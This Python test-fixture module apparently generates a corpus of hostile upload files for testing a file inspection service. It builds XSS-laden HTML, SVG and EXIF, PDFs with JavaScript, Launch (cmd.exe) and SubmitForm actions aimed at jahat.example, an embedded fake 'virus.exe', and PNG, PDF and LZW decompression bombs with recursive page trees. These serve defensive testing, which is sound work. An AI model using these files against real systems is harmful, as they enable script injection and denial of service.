"""Upload corpus: files as people, scanners and attackers upload them. It does not know how they are inspected."""

import io
import struct
import zlib
from collections.abc import Callable
from functools import cache
from typing import Any

import pikepdf
import pillow_heif
from pikepdf import Array, Dictionary, Name, Pdf, Stream
from PIL import Image, ImageDraw, ImageFilter

NIK = "5108990101909001"
SCRIPT = b"<script>alert('5108990101909001')</script>"
PROGRAM = b"\x7fELF\x02\x01\x01\0" + bytes(2000)
ZIP = b"PK\x03\x04\x14\0\0\0\0\0" + bytes(16) + b"\x08\0\0\0isi.html" + SCRIPT
WORD = b"PK\x03\x04\x14\0\0\0\0\0" + bytes(16) + b"\x11\0\0\0word/document.xml" + bytes(200)
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"\n<!DOCTYPE html><title>KTP</title>" + SCRIPT


# -- pictures --------------------------------------------------------------------------------------------------------


@cache
def drawn_page(width: int = 1240, height: int = 1754, mode: str = "RGB") -> Image.Image:
    """Draw a paper with lines of text on it."""
    paper = Image.new("RGB", (width, height), (245, 243, 238))
    draw, step = ImageDraw.Draw(paper), max(12, height // 50)
    for line in range(1, 48):
        draw.text((step, line * step), f"{line}. Kutipan akta kelahiran {NIK} " * 2, "black", font_size=step * 0.7)
    return paper.convert(mode)


def red_corner_photo() -> Image.Image:
    """Return a picture whose top left corner is red and whose other corners are not."""
    picture = Image.new("RGB", (900, 600), "white")
    picture.paste("red", (0, 0, 300, 200))
    return picture


def encode_image(picture: Image.Image, kind: str, **how: Any) -> bytes:
    out = io.BytesIO()
    if kind == "HEIF":
        pillow_heif.register_heif_opener()
        how["enc_params"] = {"x265:rd": "1", "x265:fast-intra": "1", "x265:min-cu-size": "32"}  # quick, not small
    picture.save(out, kind, **how)
    return out.getvalue()


def jpeg_bytes(picture: Image.Image | None = None, **how: Any) -> bytes:
    return encode_image(picture or drawn_page(), "JPEG", **how)


def camera_notes(orientation: int = 1) -> bytes:
    """Return EXIF with a place (Singaraja), a maker, and a script for a comment."""
    notes = Image.Exif()
    notes[0x010F], notes[0x0112] = "Kamera Uji", orientation
    notes[0x9286] = SCRIPT.decode()
    notes[0x8825] = {1: "S", 2: (8.0, 6.0, 43.0), 3: "E", 4: (115.0, 5.0, 17.0)}
    return notes.tobytes()


def png_by_hand(width: int, height: int, depth: int, colour: int, rows: bytes, *more: tuple[bytes, bytes]) -> bytes:
    """Write the PNG that no encoder would: any header, any chunks between it and the pixels."""
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    chunks = [(b"IHDR", header), *more, (b"IDAT", zlib.compress(rows)), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body)) for name, body in chunks
    )


def sixteen_bit_png(colour: int, channels: int) -> bytes:
    """Return a PNG whose levels rise from black on the left to white on the right."""
    row = b"\0" + b"".join(struct.pack(">H", min(65535, x * 82)) * channels for x in range(800))
    return png_by_hand(800, 600, 16, colour, row * 600)


def text_bomb_png() -> bytes:
    """Return a PNG with a compressed note of 80 MB."""
    return png_by_hand(2, 2, 8, 0, b"\0\0\0" * 2, (b"zTXt", b"Catatan\0\0" + deflated_zeros(80 * 10**6)))


def with_many_scans(times: int, side: int = 3000) -> bytes:
    """Return a small progressive JPEG whose last scan is repeated `times` times."""
    plain = jpeg_bytes(Image.new("RGB", (side, side), "white"), progressive=True)
    last, end = plain.rindex(b"\xff\xda"), len(plain) - 2
    return plain[:end] + plain[last:end] * times + plain[end:]


def huge_jpeg() -> bytes:
    """Return a small JPEG that says it is 60,000 pixels high and wide."""
    plain = bytearray(jpeg_bytes(drawn_page(200, 200)))
    at = plain.index(b"\xff\xc0")
    plain[at + 5 : at + 9] = struct.pack(">HH", 60_000, 60_000)
    return bytes(plain)


def blurred(radius: float) -> bytes:
    return jpeg_bytes(drawn_page().filter(ImageFilter.GaussianBlur(radius)))


def darkened(share: float) -> bytes:
    return jpeg_bytes(drawn_page().point(lambda level: level * share))


@cache
def deflated_zeros(size: int) -> bytes:
    """Return `size` zeros, deflated, without ever holding them."""
    packer = zlib.compressobj(9)
    packed = [packer.compress(bytes(10**6)) for _ in range(size // 10**6)]
    return b"".join(packed) + packer.flush()


# -- PDFs ------------------------------------------------------------------------------------------------------------


def make_pdf(change: Callable[[Pdf], object] | None = None, pages: int = 1, **how: Any) -> bytes:
    """Return a PDF of written pages, after `change` had its way with it."""
    out = io.BytesIO()
    with pikepdf.new() as made:
        font = made.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
        for number in range(pages):
            written = made.add_blank_page(page_size=(595, 842))
            written.Resources = Dictionary(Font=Dictionary(F1=font))
            text = f"BT /F1 18 Tf 72 720 Td (Halaman {number + 1} {NIK}) Tj ET"
            written.Contents = made.make_stream(text.encode())
        if change:
            change(made)
        if "encryption" not in how:  # then streams stay as they were made
            how |= {"compress_streams": False, "stream_decode_level": pikepdf.StreamDecodeLevel.none}
        made.save(out, **how)
    return out.getvalue()


def scanned_pdf(photo: bytes | None = None) -> bytes:
    """Return what a scanner makes: one JPEG on one page."""

    def scan(made: Pdf) -> None:
        image = Stream(made, photo or jpeg_bytes())
        image.stream_dict = Dictionary(
            Type=Name.XObject, Subtype=Name.Image, Width=1240, Height=1754, BitsPerComponent=8,
            ColorSpace=Name.DeviceRGB, Filter=Name.DCTDecode,
        )  # fmt: skip
        made.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=made.make_indirect(image)))
        made.pages[0].Contents = made.make_stream(b"q 595 0 0 842 0 0 cm /Im0 Do Q")

    return make_pdf(scan)


def pdf_action(kind: str, **more: Any) -> Dictionary:
    return Dictionary(S=Name("/" + kind), **more)


def on_opening(doing: Callable[[], Dictionary]) -> Callable[[Pdf], None]:
    def change(made: Pdf) -> None:
        made.Root.OpenAction = made.make_indirect(doing())

    return change


def javascript_action() -> Dictionary:
    return pdf_action("JavaScript", JS="app.alert('5108990101909001')")


def launch_action() -> Dictionary:
    return pdf_action("Launch", F="cmd.exe", Win=Dictionary(F="cmd.exe", P="/c calc"))


def uri_action() -> Dictionary:
    return pdf_action("URI", URI="https://jahat.example/")


def with_scripts(made: Pdf) -> None:
    """Put scripts where a viewer would run them: catalogue, names, page, link, field, and behind another action."""
    page_one, root = made.pages[0], made.Root
    root.AA = Dictionary(WC=javascript_action(), DS=javascript_action())
    root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", made.make_indirect(javascript_action())])))
    page_one.AA = Dictionary(O=launch_action(), C=pdf_action("SubmitForm", F="https://jahat.example/kirim"))
    chain = Dictionary(
        S=Name.GoTo, D=Array([page_one.obj, Name.Fit]), Next=Array([javascript_action(), launch_action()])
    )
    area = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 99, 99]), A=chain, PA=uri_action())
    field = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T="nama", V="Isi", Rect=Array([72, 600, 300, 630]),
        AA=Dictionary(K=javascript_action(), F=javascript_action()), DA="/F1 12 Tf 0 g", F=4,
    )  # fmt: skip
    page_one.Annots = Array([made.make_indirect(area), made.make_indirect(field)])
    fonts = Dictionary(Font=page_one.Resources.Font)
    root.AcroForm = Dictionary(Fields=Array([page_one.Annots[1]]), NeedAppearances=True, DR=fonts, CO=page_one.Annots)


def with_hidden_resources(made: Pdf) -> None:
    """Hang a script, a file and metadata where only drawing should be."""
    properties = Dictionary(MC0=made.make_indirect(javascript_action()), MC1=file_specification(made))
    properties.MC2 = Array([Dictionary(Deep=Array([launch_action()]))])
    form = made.make_stream(b"0 0 9 9 re f")
    form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 9, 9])
    form.Metadata = made.make_stream(SCRIPT)
    form.PieceInfo = Dictionary(Rahasia=Dictionary(Private=SCRIPT.decode()))
    form.Ref = Dictionary(F=file_specification(made), Page=0)
    made.pages[0].Resources.Properties = properties
    made.pages[0].Resources.XObject = Dictionary(Fm0=form)


def file_specification(made: Pdf) -> Dictionary:
    inside = made.make_stream(PROGRAM)
    inside.Type = Name.EmbeddedFile
    return Dictionary(Type=Name.Filespec, F="virus.exe", UF="virus.exe", EF=Dictionary(F=inside))


def with_attachment(made: Pdf) -> None:
    made.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array(["virus.exe", file_specification(made)])))
    made.Root.AF = Array([file_specification(made)])
    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]))
    note.FS = file_specification(made)
    made.pages[0].Annots = Array([note])


def with_metadata(made: Pdf) -> None:
    made.docinfo["/Author"] = "Made Contoh"
    made.Root.Metadata = made.make_stream(b"<x:xmpmeta>Made Contoh" + SCRIPT + b"</x:xmpmeta>")
    made.pages[0].PieceInfo = Dictionary(Aplikasi=Dictionary(Private="Made Contoh"))


def as_portfolio(made: Pdf) -> None:
    with_attachment(made)
    made.Root.Collection = Dictionary(Type=Name.Collection, View=Name.T)


def with_xfa(made: Pdf) -> None:
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=made.make_stream(b"<xdp:xdp/>"))


def with_misleading_font_names(made: Pdf) -> None:
    """Call two fonts what actions and embedded files are called by."""
    made.pages[0].Resources.Font = Dictionary(S=made.pages[0].Resources.Font.F1, EF=made.pages[0].Resources.Font.F1)


def with_plain_metadata(made: Pdf) -> None:
    """Leave the metadata out of the encryption, as Acrobat can."""
    made.Root.Metadata = Stream(made, b"<x:xmpmeta/>")
    made.Root.Metadata.Filter = Array([Name.Crypt])
    made.Root.Metadata.DecodeParms = Array([Dictionary(Name=Name.Identity)])


def with_hidden_layer(made: Pdf) -> None:
    layer = made.make_indirect(Dictionary(Type=Name.OCG, Name="Tersembunyi"))
    made.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=Dictionary(OFF=Array([layer]), Order=Array([layer])))
    made.pages[0].Resources.Properties = Dictionary(MC0=layer)


def with_stream(body: bytes, *filters: str, **more: Any) -> Callable[[Pdf], None]:
    """Make the page's contents `body`, as it stands, behind `filters`."""

    def change(made: Pdf) -> None:
        contents = Stream(made, body)
        contents.stream_dict = Dictionary(Filter=Array([Name(name) for name in filters]), **more)
        made.pages[0].Contents = made.make_indirect(contents)

    return change


def lzw_zeros(times: int) -> bytes:
    """Return `times` × 67 MB of zeros as LZW packs them: each code stands for one zero more than the one before."""
    one_round = [
        (0, 9),
        *((code, 9 + (code > 510) + (code > 1022) + (code > 2046)) for code in range(258, 4095)),
        (256, 12),
    ]
    bits = count = 0
    for code, width in one_round * 8:  # eight rounds end on a whole byte, and so do eight clearing codes before them
        bits, count = bits << width | code, count + width
    return int("100000000" * 8, 2).to_bytes(9, "big") + bits.to_bytes(count // 8, "big") * times


def with_huge_image(made: Pdf) -> None:
    image = Stream(made, deflated_zeros(10**6))
    image.stream_dict = Dictionary(
        Type=Name.XObject, Subtype=Name.Image, Width=60_000, Height=60_000, BitsPerComponent=1,
        ColorSpace=Name.DeviceGray, Filter=Name.FlateDecode,
    )  # fmt: skip
    made.pages[0].Resources.XObject = Dictionary(Im0=made.make_indirect(image))


def pdf_by_hand(*objects: bytes, root: int = 1) -> bytes:
    """Write the PDF that no program would: objects 1, 2, … as they stand, with a right cross-reference table."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out) + b"trailer<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, table)


CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
ONE_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"


def exponential_page_tree(depth: int = 60) -> bytes:
    """Return a PDF that says it has one page, but whose page tree names each branch twice, `depth` times."""
    branches = [b"<</Type/Pages/Count 1/Kids[%d 0 R %d 0 R]>>" % (n + 3, n + 3) for n in range(depth)]
    return pdf_by_hand(CATALOGUE, *branches, ONE_PAGE)


def deep_page_tree(depth: int = 40_000) -> bytes:
    branches = [b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % (n + 3) for n in range(depth)]
    return pdf_by_hand(CATALOGUE, *branches, ONE_PAGE)


def cyclic_page_tree() -> bytes:
    return pdf_by_hand(CATALOGUE, b"<</Type/Pages/Count 1/Kids[2 0 R]>>")


def nested_arrays(depth: int = 100_000) -> bytes:
    return pdf_by_hand(CATALOGUE, b"<</Type/Pages/Count 1/Kids[3 0 R]>>", ONE_PAGE, b"[" * depth + b"]" * depth)


def page_with(entries: bytes, *more: bytes) -> bytes:
    """Return a PDF whose only page has these `entries` in place of a size; `more` are objects 4, 5, …"""
    kids = b"<</Type/Pages/Count 1/Kids[3 0 R]>>"
    return pdf_by_hand(CATALOGUE, kids, b"<</Type/Page/Parent 2 0 R%b>>" % entries, *more)


def object_stream_bomb(size: int = 200 * 10**6) -> bytes:
    """Return a PDF whose catalogue lies in an object stream that inflates to `size` bytes."""
    packed = deflated_zeros(size)
    stream = b"<</Type/ObjStm/N 1/First 10/Filter/FlateDecode/Length %d>>stream\n%b\nendstream" % (len(packed), packed)
    head = b"%PDF-1.7\n"
    body = head + b"1 0 obj\n" + stream + b"\nendobj\n"
    rows = struct.pack(">BIB", 0, 0, 0) + struct.pack(">BIB", 1, len(head), 0) + struct.pack(">BIB", 2, 1, 0)
    table = b"<</Type/XRef/Size 3/W[1 4 1]/Root 2 0 R/Length %d>>stream\n%b\nendstream" % (len(rows), rows)
    return body + b"3 0 obj\n" + table + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(body)
